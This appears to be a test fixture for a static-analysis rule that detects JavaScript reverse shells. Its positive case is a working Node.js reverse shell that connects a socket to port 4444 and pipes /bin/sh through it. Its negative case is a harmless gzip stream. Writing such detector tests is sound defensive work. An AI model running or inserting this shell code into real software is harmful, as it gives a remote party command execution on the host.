const net = require("net");
const cp = require("child_process");

const client = new net.Socket();
client.connect(4444, "127.0.0.1", () => {
  const sh = cp.spawn("/bin/sh", []);
  // ruleid: js-reverse-shell
  client.pipe(sh.stdin);
  // ruleid: js-reverse-shell
  sh.stdout.pipe(client);
});

const fs = require("fs");
const gzip = cp.spawn("gzip", ["-c"]);
// ok: js-reverse-shell
fs.createReadStream("/tmp/in.txt").pipe(gzip.stdin);
